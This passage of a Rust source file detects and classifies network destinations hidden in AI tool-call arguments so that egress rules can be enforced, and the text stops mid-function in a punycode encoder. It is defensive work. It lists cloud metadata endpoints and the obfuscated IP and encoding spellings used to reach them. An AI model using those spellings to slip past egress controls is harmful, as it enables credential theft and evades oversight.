//! Network destinations hidden in argument strings: finds URLs, e-mail addresses, bare IP
//! addresses and bare host names anywhere in a string (prose, SQL, shell commands), normalizes
//! each host (ASCII lowercase, punycode for Unicode names, the numeric IPv4 spellings URL
//! parsers accept decoded) and classifies it as public, private or cloud metadata. Also owns
//! the allow/deny lists (`DomainList`) that egress rules match destinations against. Pure
//! functions of their input: no DNS, no I/O. `destinations` runs on every string argument of
//! every tool call, so it looks only at the words around the bytes a destination needs (`.`
//! `:` `@`, found a machine word at a time), allocates only for what it finds, and is linear in
//! the length of its input.

use crate::base::glob;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

/// How a destination was written.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// After a `scheme://`.
    Url,
    /// After the `@` of `local@domain` (e-mail addresses, `user@host` of ssh/scp/git).
    Email,
    /// A bare host name.
    Host,
    /// A bare IPv4 or IPv6 address.
    Ip,
}

/// What a destination is, whatever the policy says about it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Class {
    /// Anything not below.
    Public,
    /// Loopback, RFC 1918, link-local, CGNAT, unique-local, unspecified, multicast and reserved
    /// addresses; `localhost`, `*.localhost`, `*.internal`, `*.local`, `*.home.arpa`.
    Private,
    /// Cloud instance-metadata endpoints (AWS, GCP, Azure, Alibaba) by address or by name.
    Metadata,
}

/// One destination found in a string.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Destination {
    /// Normalized: ASCII lowercase, Unicode labels in punycode (`xn--`), no trailing dot, IPv6
    /// without brackets, IP addresses in canonical text (`169.254.169.254`, `::1`).
    pub host: String,
    /// The address, when the host is one (however it was spelled).
    pub ip: Option<IpAddr>,
    pub kind: Kind,
    pub class: Class,
}

/// Longest host name DNS can carry, in bytes.
const MAX_NAME: usize = 253;
/// Longest DNS label, in bytes.
const MAX_LABEL: usize = 63;

/// Appends every destination found in `s` to `out`, in order of appearance. `known` says
/// whether a bare dotted name (no scheme, no `@`) counts as a host even though its last label
/// is not in the built-in TLD list (the gateway passes `DomainList::matches_name` of the
/// policy's lists); it is called with the normalized name or, for ASCII names, the name as
/// written (so it must compare case-insensitively).
pub fn destinations(s: &str, known: &dyn Fn(&str) -> bool, out: &mut Vec<Destination>) {
    // Most strings are prose or identifiers: one pass over the bytes rules them out (no
    // trigger byte, and not every letter of `localhost`).
    let b = s.as_bytes();
    let (mut may, mut letters) = (0u8, 0u32);
    for &c in b {
        may |= CLASS[usize::from(c)];
        letters |= 1 << ((c | 0x20).wrapping_sub(b'a') & 31);
    }
    const LOCALHOST: u32 = {
        let mut m = 0;
        let word = b"localhost";
        let mut i = 0;
        while i < word.len() {
            m |= 1 << (word[i] - b'a');
            i += 1;
        }
        m
    };
    if may & MAY == 0 && (letters & LOCALHOST != LOCALHOST || find_localhost(b, 0).is_none()) {
        return;
    }
    if has_percent_escape(s.as_bytes()) {
        // `%2e`, `%3a`, `%40`, `%2f` can hide every delimiter: scan the decoded text instead
        // (decoding twice more undoes double and triple encoding).
        let mut decoded = percent_decode(s);
        for _ in 0..2 {
            if !has_percent_escape(decoded.as_bytes()) {
                break;
            }
            decoded = percent_decode(&decoded);
        }
        Scan::new(&decoded, known, out).run();
    } else {
        Scan::new(s, known, out).run();
    }
}

// ---- byte classes ----

/// Bytes that can be part of a word (a run that may hold a bare destination).
const WORD: u8 = 1;
/// `.` `:` `@`: a word without one (or a Unicode dot) holds no destination, except the bare
/// word `localhost`.
const TRIGGER: u8 = 2;
/// Bytes of a URL scheme.
const SCHEME: u8 = 4;
/// Bytes that end a URL's authority (userinfo, host and port).
const AUTH_END: u8 = 8;
/// `:`, `@` and `+`: a word without them is a plain dotted candidate.
const SPLIT: u8 = 16;
/// `-` and `_`, which may glue addresses together (`10.0.0.1-10.0.0.9`).
const DASH: u8 = 32;
/// Bytes without which a string holds no destination but `localhost`: the triggers, `%`
/// (an escape may hide one) and every non-ASCII byte (Unicode dots, international names).
const MAY: u8 = 64;

static CLASS: [u8; 256] = byte_classes();

const fn byte_classes() -> [u8; 256] {
    let mut t = [0u8; 256];
    let mut i = 0;
    while i < 256 {
        let c = i as u8;
        let mut f = 0;
        let alnum = c.is_ascii_alphanumeric();
        if alnum || matches!(c, b'-' | b'_' | b'.' | b':' | b'@' | b'+') {
            f |= WORD;
        }
        if matches!(c, b'.' | b':' | b'@') {
            f |= TRIGGER;
        }
        if matches!(c, b'.' | b':' | b'@' | b'%') || c >= 0x80 {
            f |= MAY;
        }
        if alnum || matches!(c, b'+' | b'.' | b'-') {
            f |= SCHEME;
        }
        if matches!(c, b':' | b'@' | b'+') {
            f |= SPLIT;
        }
        if matches!(c, b'-' | b'_') {
            f |= DASH;
        }
        if c <= b' '
            || matches!(
                c,
                b'/' | b'\\'
                    | b'?'
                    | b'#'
                    | b'"'
                    | b'\''
                    | b'`'
                    | b'<'
                    | b'>'
                    | b'('
                    | b')'
                    | b'{'
                    | b'}'
                    | b'|'
                    | b'^'
                    | b','
                    | b';'
                    | 0x7f
            )
        {
            f |= AUTH_END;
        }
        t[i] = f;
        i += 1;
    }
    t
}

fn is_slash(c: u8) -> bool {
    c == b'/' || c == b'\\'
}

/// `.` and the dots IDNA treats as `.`: ideographic full stop, fullwidth and halfwidth dots.
fn is_dot(c: char) -> bool {
    matches!(c, '.' | '\u{3002}' | '\u{FF0E}' | '\u{FF61}')
}

/// The ASCII letter, digit or hyphen a fullwidth form stands for.
fn fullwidth(c: char) -> Option<char> {
    match c as u32 {
        0xFF0D | 0xFF10..=0xFF19 | 0xFF21..=0xFF3A | 0xFF41..=0xFF5A => {
            char::from_u32(c as u32 - 0xFEE0)
        }
        _ => None,
    }
}

fn combining(c: char) -> bool {
    (0x300..=0x36F).contains(&(c as u32))
}

/// A non-ASCII character that can be part of a bare host name: letters of the alphabetic
/// scripts homographs are made of (Latin, Greek, Cyrillic, Armenian, Hebrew, Arabic),
/// fullwidth ASCII, and the Kelvin and Angstrom signs (which lowercase to `k` and `å`). CJK
/// ends a bare name, so prose without spaces does not glue onto one.
fn bare_label_char(c: char) -> bool {
    ((c as u32) < 0x800 && (c.is_alphabetic() || combining(c)))
        || fullwidth(c).is_some()
        || matches!(c, '\u{212A}' | '\u{212B}')
}

/// A non-ASCII character that can be part of a host after `scheme://`: any letter or digit.
fn url_label_char(c: char) -> bool {
    c.is_alphanumeric() || combining(c) || fullwidth(c).is_some() || is_dot(c)
}

/// Next `localhost` (any case) at or after `from`.
fn find_localhost(b: &[u8], mut from: usize) -> Option<usize> {
    while let Some(k) = crate::base::bytes::find_any3(b'l', b'L', b'L', &b[from..]) {
        let p = from + k;
        if b.get(p..p + 9)
            .is_some_and(|w| w.eq_ignore_ascii_case(b"localhost"))
        {
            return Some(p);
        }
        from = p + 1;
    }
    None
}

// ---- percent-decoding ----

fn has_percent_escape(b: &[u8]) -> bool {
    crate::base::bytes::find_byte(b'%', b).is_some()
        && b.windows(3)
            .any(|w| w[0] == b'%' && w[1].is_ascii_hexdigit() && w[2].is_ascii_hexdigit())
}

fn hex_value(c: u8) -> u8 {
    match c {
        b'0'..=b'9' => c - b'0',
        b'a'..=b'f' => c - b'a' + 10,
        _ => c.wrapping_sub(b'A').wrapping_add(10),
    }
}

/// `%XX` decoded once; invalid UTF-8 in the result becomes U+FFFD (which ends a word).
fn percent_decode(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'%' {
            if let (Some(&h), Some(&l)) = (b.get(i + 1), b.get(i + 2)) {
                if h.is_ascii_hexdigit() && l.is_ascii_hexdigit() {
                    out.push(hex_value(h) << 4 | hex_value(l));
                    i += 3;
                    continue;
                }
            }
        }
        out.push(b[i]);
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

// ---- the scanner ----

struct Scan<'a> {
    t: &'a str,
    b: &'a [u8],
    known: &'a dyn Fn(&str) -> bool,
    out: &'a mut Vec<Destination>,
    /// End of the word being looked at (for the "followed by `(`" test).
    word_end: usize,
}

impl<'a> Scan<'a> {
    fn new(t: &'a str, known: &'a dyn Fn(&str) -> bool, out: &'a mut Vec<Destination>) -> Self {
        Scan {
            t,
            b: t.as_bytes(),
            known,
            out,
            word_end: 0,
        }
    }

    /// The character at byte `i`: (is a word character, is a dot, length in bytes).
    #[inline]
    fn char_at(&self, i: usize) -> (bool, bool, usize) {
        let c = self.b[i];
        if c < 0x80 {
            return (CLASS[c as usize] & WORD != 0, c == b'.', 1);
        }
        match self.t.get(i..).and_then(|r| r.chars().next()) {
            Some(ch) => {
                let dot = is_dot(ch);
                (dot || bare_label_char(ch), dot, ch.len_utf8())
            }
            None => (false, false, 1),
        }
    }

    fn dot_at(&self, i: usize) -> (bool, usize) {
        let (_, dot, len) = self.char_at(i);
        (dot, len)
    }

    /// Visits only the words that hold a trigger (`.`, `:`, `@`, a Unicode dot) or the text
    /// `localhost`: the next of each is found a machine word at a time, then the word around
    /// it is taken. Each searcher only moves forward, so the whole is linear.
    fn run(&mut self) {
        let n = self.b.len();
        let ascii = self.b.is_ascii();
        let find_ascii = |b: &[u8], from: usize| {
            crate::base::bytes::find_any3(b'.', b':', b'@', &b[from..]).map(|k| from + k)
        };
        // The Unicode dots by their last byte (rarer in CJK text than their lead bytes).
        let find_wide = |b: &[u8], mut from: usize| {
            while let Some(k) = crate::base::bytes::find_any3(0x82, 0x8E, 0xA1, &b[from..]) {
                let p = from + k;
                if p >= 2
                    && matches!(
                        &b[p - 2..=p],
                        [0xE3, 0x80, 0x82] | [0xEF, 0xBC, 0x8E] | [0xEF, 0xBD, 0xA1]
                    )
                {
                    return Some(p - 2);
                }
                from = p + 1;
            }
            None
        };
        let mut next_ascii = find_ascii(self.b, 0);
        let mut next_wide = if ascii { None } else { find_wide(self.b, 0) };
        let mut next_local = find_localhost(self.b, 0);
        let mut pos = 0;
        while pos < n {
            if next_ascii.is_some_and(|k| k < pos) {
                next_ascii = find_ascii(self.b, pos);
            }
            if next_wide.is_some_and(|k| k < pos) {
                next_wide = find_wide(self.b, pos);
            }
            if next_local.is_some_and(|k| k < pos) {
                next_local = find_localhost(self.b, pos);
            }
            let k = match min3(next_ascii, next_wide, next_local) {
                Some(k) => k,
                None => break,
            };
            let (word, _, len) = self.char_at(k);
            if !word {
                pos = k + len;
                continue;
            }
            let start = self.word_start(k, pos);
            pos = self.visit(start);
        }
    }

    /// Start of the word holding byte `k`, not before `floor`.
    #[inline]
    fn word_start(&self, k: usize, floor: usize) -> usize {
        let mut s = k;
        while s > floor {
            let c = self.b[s - 1];
            if c < 0x80 {
                if CLASS[c as usize] & WORD == 0 {
                    break;
                }
                s -= 1;
            } else {
                let mut cs = s - 1;
                while cs > floor && self.b[cs] & 0xC0 == 0x80 {
                    cs -= 1;
                }
                if !self.char_at(cs).0 {
                    break;
                }
                s = cs;
            }
        }
        s
    }

    /// The word starting at `start`; returns where to go on scanning.
    fn visit(&mut self, start: usize) -> usize {
        let n = self.b.len();
        let (mut flags, mut wide) = (0, false);
        let mut j = start;
        while j < n {
            let c = self.b[j];
            if c < 0x80 {
                let f = CLASS[c as usize];
                if f & WORD == 0 {
                    break;
                }
                flags |= f;
                j += 1;
            } else {
                let (word, dot, len) = self.char_at(j);
                if !word {
                    break;
                }
                wide = true;
                if dot {
                    flags |= TRIGGER;
                }
                j += len;
            }
        }
        let end = j;
        if end == start {
            return start + 1;
        }
        if self.b[end - 1] == b':'
            && end + 1 < n
            && is_slash(self.b[end])
            && is_slash(self.b[end + 1])
        {
            let colon = end - 1;
            let mut s0 = colon;
            while s0 > start && CLASS[self.b[s0 - 1] as usize] & SCHEME != 0 {
                s0 -= 1;
            }
            while s0 < colon && !self.b[s0].is_ascii_alphabetic() {
                s0 += 1;
            }
            if s0 < colon {
                if s0 > start {
                    let f = self.b[start..s0]
                        .iter()
                        .fold(0, |f, &c| f | CLASS[c as usize]);
                    self.word(start, s0, f, !self.b[start..s0].is_ascii());
                }
                return self.url(end + 2);
            }
        }
        if flags & TRIGGER != 0 {
            self.word(start, end, flags, wide);
        } else if self.b[start..end].eq_ignore_ascii_case(b"localhost") {
            self.push("localhost".to_owned(), None, Kind::Host);
        }
        end
    }

    /// The authority of a URL starting at `p` (just after `//`); returns where to go on
    /// scanning: just after the host, so the port, path and query are scanned as text.
    fn url(&mut self, p: usize) -> usize {
        let n = self.b.len();
        let mut aend = p;
        while aend < n && CLASS[self.b[aend] as usize] & AUTH_END == 0 {
            aend += 1;
        }
        let hs = match self.b[p..aend].iter().rposition(|&c| c == b'@') {
            Some(k) => p + k + 1,
            None => p,
        };
        if hs < aend && self.b[hs] == b'[' {
            return match self.b[hs..aend].iter().position(|&c| c == b']') {
                Some(k) => {
                    self.bracketed(hs + 1, hs + k);
                    hs + k + 1
                }
                None => hs + 1,
            };
        }
        let mut he = hs;
        while he < aend {
            let c = self.b[he];
            if c < 0x80 {
                if !(c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.')) {
                    break;
                }
                he += 1;
            } else {
                match self.t.get(he..).and_then(|r| r.chars().next()) {
                    Some(ch) if url_label_char(ch) => he += ch.len_utf8(),
                    _ => break,
                }
            }
        }
        if he > hs {
            self.url_host(hs, he);
        }
        he.max(p)
    }

    /// `[...]` after `scheme://`: an IPv6 address, possibly with a zone (`%eth0`).
    fn bracketed(&mut self, s: usize, e: usize) {
        let inner = &self.t[s..e];
        let addr = inner.split('%').next().unwrap_or("");
        if let Ok(ip) = addr.parse::<Ipv6Addr>() {
            self.push_ip(IpAddr::V6(ip), Kind::Url);
        } else if let Ok(ip) = addr.parse::<Ipv4Addr>() {
            self.push_ip(IpAddr::V4(ip), Kind::Url);
        } else if !inner.is_empty() {
            // Not an address a client can connect to; reported as written (fail closed).
            self.push(inner.to_ascii_lowercase(), None, Kind::Url);
        }
    }

    /// A URL host: numeric forms decoded as WHATWG URL parsers do (`2852039166`,
    /// `0xA9FEA9FE`, `0251.0376.0251.0376`, `127.1`), names normalized.
    fn url_host(&mut self, s: usize, e: usize) {
        let raw = &self.t[s..e];
        let mut norm = String::with_capacity(e - s);
        if raw.is_ascii() {
            norm.push_str(raw);
            norm.make_ascii_lowercase();
        } else {
            for c in raw.chars() {
                if is_dot(c) {
                    norm.push('.');
                } else if let Some(a) = fullwidth(c) {
                    norm.push(a.to_ascii_lowercase());
                } else {
                    norm.extend(c.to_lowercase());
                }
            }
        }
        while norm.ends_with('.') {
            norm.pop();
        }
        if norm.is_empty() {
            return;
        }
        if ends_in_number(&norm) {
            match whatwg_ipv4(&norm) {
                Some(ip) => self.push_ip(IpAddr::V4(ip), Kind::Url),
                // Not a valid address: no parser connects to it, but report it as written.
                None => self.push(norm, None, Kind::Url),
            }
            return;
        }
        let host = if norm.is_ascii() {
            norm
        } else {
            to_ascii_host(&norm).unwrap_or(norm)
        };
        self.push(host, None, Kind::Url);
    }

    /// A run of word characters that is not the scheme of a URL.
    fn word(&mut self, ws: usize, we: usize, flags: u8, wide: bool) {
        self.word_end = we;
        if flags & SPLIT == 0 {
            return if wide {
                self.piece(ws, we)
            } else {
                self.simple(ws, we, flags & DASH != 0)
            };
        }
        let colons = self.b[ws..we].iter().filter(|&&c| c == b':').count();
        if colons >= 2 && self.bare_ipv6(ws, we) {
            return;
        }
        let mut ps = ws;
        for k in ws..=we {
            if k == we || self.b[k] == b':' {
                if k > ps {
                    self.part(ps, k);
                }
                ps = k + 1;
            }
        }
    }

    /// The common case, an ASCII word of letters, digits, `-`, `_` and dots: one pass, and
    /// `known` is asked directly unless the last label needs `judge` (a number, a listed
    /// TLD, a special name). Unusual shapes (leading or doubled dots, overlong labels) take
    /// the general path.
    fn simple(&mut self, ws: usize, we: usize, dashes: bool) {
        let b = &self.b[ws..we];
        let trail = b.iter().rev().take_while(|&&c| c == b'.').count();
        let body = &b[..b.len() - trail];
        let (mut dots, mut last_dot, mut label, mut odd) = (0, 0, 0, b.first() == Some(&b'.'));
        for (k, &c) in body.iter().enumerate() {
            if c == b'.' {
                odd |= label == 0;
                dots += 1;
                last_dot = k;
                label = 0;
            } else {
                label += 1;
                odd |= label > MAX_LABEL;
            }
        }
        if odd || body.len() > MAX_NAME {
            return self.ascii_piece(ws, we);
        }
        if dots == 0 {
            if body.eq_ignore_ascii_case(b"localhost") {
                self.push("localhost".to_owned(), None, Kind::Host);
            }
            return;
        }
        let he = ws + body.len();
        let last = &body[last_dot + 1..];
        if is_number_label(last) || (dashes && dots >= 3) || tld_listed(last) || special_tld(last) {
            let t = self.t;
            return self.judge(&t[ws..he], ws, he);
        }
        let name = &self.t[ws..he];
        if (self.known)(name) {
            self.push(name.to_ascii_lowercase(), None, Kind::Host);
        }
    }

    /// A bare IPv6 address: only hex digits, `:` and `.`, at least one decimal digit (so
    /// `a::b` and `cafe::face` stay C++/Rust paths), and std's parser agrees.
    fn bare_ipv6(&mut self, ws: usize, we: usize) -> bool {
        let w = self.t[ws..we].trim_end_matches('.');
        if w.len() < 3 || w.len() > 45 {
            return false;
        }
        let b = w.as_bytes();
        if !b
            .iter()
            .all(|&c| c.is_ascii_hexdigit() || c == b':' || c == b'.')
            || !b.iter().any(u8::is_ascii_digit)
        {
            return false;
        }
        match w.parse::<Ipv6Addr>() {
            Ok(ip) => {
                self.push_ip(IpAddr::V6(ip), Kind::Ip);
                true
            }
            Err(_) => false,
        }
    }

    /// A word between colons: `user@host`, or a candidate host.
    fn part(&mut self, ps: usize, pe: usize) {
        match self.b[ps..pe].iter().rposition(|&c| c == b'@') {
            Some(k) => {
                let at = ps + k;
                if at > ps && self.email(at + 1, pe) {
                    return;
                }
                self.candidate(at + 1, pe);
            }
            None => self.candidate(ps, pe),
        }
    }

    /// The domain of `local@domain`: an IPv4 address, `localhost`, or a name of two or more
    /// labels ending in letters (any TLD: the `@` is evidence enough).
    fn email(&mut self, ds: usize, de: usize) -> bool {
        let d = self.t[ds..de].trim_end_matches(is_dot);
        if d.is_empty() {
            return false;
        }
        if d.split(is_dot).all(|l| is_number_label(l.as_bytes())) {
            if d.split(is_dot).count() != 4 {
                return false;
            }
            return match whatwg_ipv4(d) {
                Some(ip) => {
                    self.push_ip(IpAddr::V4(ip), Kind::Email);
                    true
                }
                None => false,
            };
        }
        let host = match to_ascii_host(d) {
            Some(h) => h,
            None => return false,
        };
        let mut labels = host.rsplit('.');
        let last = labels.next().unwrap_or("");
        let single = labels.next().is_none();
        let ok = if single {
            host == "localhost"
        } else {
            (last.len() >= 2 && last.bytes().all(|c| c.is_ascii_alphabetic()))
                || last.starts_with("xn--")
        };
        if ok {
            self.push(host, None, Kind::Email);
        }
        ok
    }

    /// Splits a candidate on `+` (never part of a host).
    fn candidate(&mut self, cs: usize, ce: usize) {
        let mut s0 = cs;
        for k in cs..=ce {
            if k == ce || self.b[k] == b'+' {
                if k > s0 {
                    self.piece(s0, k);
                }
                s0 = k + 1;
            }
        }
    }

    /// Dots at the edges: one leading dot is a dotfile (`.env.local`), several are an ellipsis
    /// or `../`; trailing dots end sentences; `..` inside separates two candidates.
    fn piece(&mut self, ps: usize, pe: usize) {
        if self.b[ps..pe].is_ascii() {
            return self.ascii_piece(ps, pe);
        }
        let mut lead = 0;
        let mut hs = ps;
        while hs < pe {
            let (dot, len) = self.dot_at(hs);
            if !dot {
                break;
            }
            lead += 1;
            hs += len;
        }
        let p = self.t[hs..pe].trim_end_matches(is_dot);
        if lead == 1 || !p.contains(is_dot) {
            return;
        }
        let he = hs + p.len();
        let (mut seg, mut k) = (hs, hs);
        while k < he {
            let (dot, len) = self.dot_at(k);
            if dot && k + len < he && self.dot_at(k + len).0 {
                if k > seg {
                    self.host(seg, k);
                }
                let mut m = k;
                while m < he {
                    let (dot, len) = self.dot_at(m);
                    if !dot {
                        break;
                    }
                    m += len;
                }
                seg = m;
                k = m;
                continue;
            }
            k += len;
        }
        if he > seg {
            self.host(seg, he);
        }
    }

    /// `piece` for ASCII, on bytes.
    fn ascii_piece(&mut self, ps: usize, pe: usize) {
        let b = &self.b[ps..pe];
        let lead = b.iter().take_while(|&&c| c == b'.').count();
        let rest = &b[lead..];
        if rest.is_empty() {
            return;
        }
        if !rest.contains(&b'.') {
            if lead == 0 && rest.eq_ignore_ascii_case(b"localhost") {
                self.push("localhost".to_owned(), None, Kind::Host);
            }
            return;
        }
        if lead == 1 {
            return;
        }
        let trail = rest.iter().rev().take_while(|&&c| c == b'.').count();
        let (hs, he) = (ps + lead, pe - trail);
        let mut seg = hs;
        let mut k = hs;
        while k + 1 < he {
            if self.b[k] == b'.' && self.b[k + 1] == b'.' {
                if k > seg {
                    self.ascii_host(seg, k);
                }
                while k < he && self.b[k] == b'.' {
                    k += 1;
                }
                seg = k;
            } else {
                k += 1;
            }
        }
        if he > seg {
            self.ascii_host(seg, he);
        }
    }

    /// A dotted candidate with no empty label: an IPv4 address, a host name, or nothing.
    fn host(&mut self, hs: usize, he: usize) {
        if he - hs > 4 * MAX_NAME {
            return;
        }
        let h = &self.t[hs..he];
        if h.is_ascii() {
            return self.ascii_host(hs, he);
        }
        // Unicode: judged in its ASCII form (dots, fullwidth forms, case, punycode).
        if let Some(name) = to_ascii_host(h) {
            self.judge(&name, hs, he);
        }
    }

    fn ascii_host(&mut self, hs: usize, he: usize) {
        if he - hs <= MAX_NAME {
            let t = self.t;
            self.judge(&t[hs..he], hs, he);
        }
    }

    /// An ASCII dotted name (as written at `hs..he`): an IPv4 address, a host name, or
    /// nothing. One pass over the bytes, then table lookups; `known` is the only callback.
    fn judge(&mut self, name: &str, hs: usize, he: usize) {
        let b = name.as_bytes();
        let mut labels = 1;
        let mut numeric = true;
        let mut valid = b.len() <= MAX_NAME;
        let mut dashes = false;
        let (mut first_end, mut ls) = (b.len(), 0);
        for (k, &c) in b.iter().enumerate() {
            if c == b'.' {
                numeric &= is_number_label(&b[ls..k]);
                valid &= k > ls && k - ls <= MAX_LABEL;
                if labels == 1 {
                    first_end = k;
                }
                labels += 1;
                ls = k + 1;
            } else if c == b'-' || c == b'_' {
                dashes = true;
            } else {
                valid &= c.is_ascii_alphanumeric();
            }
        }
        let last = &name[ls..];
        numeric &= is_number_label(last.as_bytes());
        valid &= !last.is_empty() && last.len() <= MAX_LABEL;
        if numeric {
            if labels == 4 {
                if let Some(ip) = whatwg_ipv4(name) {
                    self.push_ip(IpAddr::V4(ip), Kind::Ip);
                }
            }
            return;
        }
        if labels >= 2 && valid {
            let first = &name[..first_end];
            let meta = METADATA_NAMES.iter().any(|m| name.eq_ignore_ascii_case(m));
            let listed = meta || tld_listed(last.as_bytes()) || private_suffix(name);
            let hit = (listed
                && (meta || !self.looks_like_code_or_file(hs, he, first, last, labels == 2)))
                || (self.known)(name);
            if hit {
                self.push(name.to_ascii_lowercase(), None, Kind::Host);
                return;
            }
        }
        // `10.0.0.1-10.0.0.9`, `ip_10.1.2.3`: addresses are delimited by any non-alphanumeric.
        if dashes && labels >= 4 {
            for sub in name.split(['-', '_']) {
                if sub.split('.').count() == 4
                    && sub.split('.').all(|l| is_number_label(l.as_bytes()))
                {
                    if let Some(ip) = whatwg_ipv4(sub) {
                        self.push_ip(IpAddr::V4(ip), Kind::Ip);
                    }
                }
            }
        }
    }

    /// `logger.info(`, `self.page`, `scripts/deploy.sh`, `install.sh`, `Dockerfile.dev`.
    fn looks_like_code_or_file(
        &self,
        hs: usize,
        he: usize,
        first: &str,
        last: &str,
        two_labels: bool,
    ) -> bool {
        let call = he == self.word_end && self.b.get(he) == Some(&b'(');
        // A path component: after one `/` or `\`, but not after `//`, `\\` or `:/`.
        let path = hs >= 1
            && is_slash(self.b[hs - 1])
            && (hs < 2 || !(is_slash(self.b[hs - 2]) || self.b[hs - 2] == b':'));
        let receiver = RECEIVERS.iter().any(|r| first.eq_ignore_ascii_case(r));
        let file = two_labels
            && (FILE_EXTENSIONS.iter().any(|e| last.eq_ignore_ascii_case(e))
                || FILE_STEMS.iter().any(|s| first.eq_ignore_ascii_case(s)));
        call || path || receiver || file
    }

    fn push(&mut self, host: String, ip: Option<IpAddr>, kind: Kind) {
        let class = match ip {
            Some(ip) => classify_ip(ip),
            None => classify_name(&host),
        };
        self.out.push(Destination {
            host,
            ip,
            kind,
            class,
        });
    }

    fn push_ip(&mut self, ip: IpAddr, kind: Kind) {
        self.push(ip.to_string(), Some(ip), kind);
    }
}

// ---- names ----

/// Public TLDs common enough that `name.tld` in text is taken for a host.
fn tld_listed(b: &[u8]) -> bool {
    if b.len() < 2 || b.len() > 7 {
        return false;
    }
    let mut buf = [0u8; 7];
    for (d, s) in buf.iter_mut().zip(b) {
        *d = s.to_ascii_lowercase();
    }
    matches!(
        &buf[..b.len()],
        b"com"
            | b"net"
            | b"org"
            | b"edu"
            | b"gov"
            | b"mil"
            | b"int"
            | b"io"
            | b"ai"
            | b"dev"
            | b"app"
            | b"co"
            | b"cloud"
            | b"xyz"
            | b"info"
            | b"biz"
            | b"me"
            | b"us"
            | b"uk"
            | b"de"
            | b"fr"
            | b"ru"
            | b"cn"
            | b"jp"
            | b"in"
            | b"br"
            | b"au"
            | b"ca"
            | b"eu"
            | b"nl"
            | b"se"
            | b"no"
            | b"es"
            | b"it"
            | b"ch"
            | b"pl"
            | b"tv"
            | b"cc"
            | b"ly"
            | b"sh"
            | b"gg"
            | b"to"
            | b"site"
            | b"online"
            | b"tech"
            | b"store"
            | b"top"
            | b"club"
            | b"live"
            | b"pro"
            | b"page"
            | b"link"
            | b"website"
            | b"onion"
    )
}

/// Last labels of the special names (`*.localhost`, `*.internal`, `*.local`, `*.home.arpa`,
/// `metadata.goog`).
fn special_tld(label: &[u8]) -> bool {
    [&b"localhost"[..], b"internal", b"local", b"arpa", b"goog"]
        .iter()
        .any(|s| label.eq_ignore_ascii_case(s))
}

fn min3(a: Option<usize>, b: Option<usize>, c: Option<usize>) -> Option<usize> {
    let m = a
        .unwrap_or(usize::MAX)
        .min(b.unwrap_or(usize::MAX))
        .min(c.unwrap_or(usize::MAX));
    (m != usize::MAX).then_some(m)
}

/// Names of cloud metadata services.
const METADATA_NAMES: &[&str] = &[
    "metadata.google.internal",
    "metadata.goog",
    "metadata",
    "instance-data",
    "instance-data.ec2.internal",
];

/// Suffixes of names that only resolve on a private network.
const PRIVATE_SUFFIXES: &[&str] = &[".localhost", ".internal", ".local", ".home.arpa"];

/// Two-label names with these last labels are file names (`install.sh`, `main.cc`,
/// `script.pl`, `Makefile.in`), not hosts, unless written as a URL or e-mail.
const FILE_EXTENSIONS: &[&str] = &["sh", "pl", "cc", "in"];

/// Two-label names with these first labels are file names (`Dockerfile.dev`).
const FILE_STEMS: &[&str] = &[
    "dockerfile",
    "containerfile",
    "makefile",
    "procfile",
    "gemfile",
    "jenkinsfile",
    "vagrantfile",
    "requirements",
    "settings",
    "config",
];

/// First labels that make a dotted name a member access in code (`self.page`, `window.top`).
const RECEIVERS: &[&str] = &[
    "self", "this", "super", "cls", "window", "document", "console", "logger", "logging", "log",
];

fn private_suffix(name: &str) -> bool {
    let b = name.as_bytes();
    PRIVATE_SUFFIXES
        .iter()
        .any(|s| b.len() > s.len() && b[b.len() - s.len()..].eq_ignore_ascii_case(s.as_bytes()))
}

/// A name in its ASCII form: dots and fullwidth forms mapped, lowercased, Unicode labels in
/// punycode (RFC 3492). `None` when it is not a valid host name.
pub fn to_ascii_host(h: &str) -> Option<String> {
    if h.len() > 4 * MAX_NAME {
        return None;
    }
    let mut out = String::with_capacity(h.len());
    let mut label: Vec<char> = Vec::new();
    for c in h.chars().chain(std::iter::once('.')) {
        if is_dot(c) {
            if label.is_empty() || label.len() > MAX_LABEL {
                return None;
            }
            if !out.is_empty() {
                out.push('.');
            }
            if label.iter().all(char::is_ascii) {
                out.extend(label.iter());
            } else {
                out.push_str("xn--");
                punycode(&label, &mut out)?;
            }
            label.clear();
        } else {
            let c = fullwidth(c).unwrap_or(c);
            if c.is_ascii() && !(c.is_ascii_alphanumeric() || c == '-' || c == '_') {
                return None;
            }
            label.extend(c.to_lowercase());
        }
    }
    let ok = out.len() <= MAX_NAME && out.split('.').all(|l| l.len() <= MAX_LABEL);
    ok.then_some(out)
}

/// RFC 3492 punycode encoding of one label (without the `xn--` prefix).
fn punycode(input: &[char], out: &mut String) -> Option<()> {
    const BASE: u32 = 36;
    const TMIN: u32 = 1;
    const TMAX: u32 = 26;
    fn digit(d: u32) -> char {
        // d < 36
        if d < 26 {
            char::from(b'a' + d as u8)
        } else {
            char::from(b'0' + (d - 26) as u8)
        }
    }
    fn adapt(delta: u32, points: u32, first: bool) -> u32 {
        let mut delta = if first { delta / 700 } else { delta / 2 };
        delta += delta / points;
        let mut k = 0;
        while delta > ((BASE - TMIN) * TMAX) / 2 {
            delta /= BASE - TMIN;
            k += BASE;
        }
        k + (BASE - TMIN + 1) * delta / (delta + 38)
    }
    let basic = input.iter().filter(|c| c.is_ascii()).count() as u32;
    out.extend(input.iter().filter(|c| c.is_ascii()));
    if basic > 0 {
        out.push('-');
    }
    let (mut n, mut delta, mut bias, mut h) = (128u32, 0u32, 72u32, basic);
    let total = input.len() as u32;
    while h < total {
        let m = input.iter().map(|&c| c as u32).filter(|&c| c >= n).min()?;
        delta = delta.checked_add((m - n).checked_mul(h + 1)?)?;
        n = m;
        for &c in input {
            let c = c as u32;
            if c < n {
                delta = delta.checked_add(1)?;
            }
            if c == n {
                let mut q = delta;
                let mut k = BASE;
                loop {
                    let t = if k <= bias {
                        TMIN
                    } else if k >= bias + TMAX {
                        TMAX
                    } else {
                        k - bias
                    };
                    if q < t {
                        break;
                    }
                    out.push(digit(t + (q - t) % (BASE - t)));
                    q = (q - t) / (BASE - t);
                    k += BASE;
                }
                out.push(digit(q));
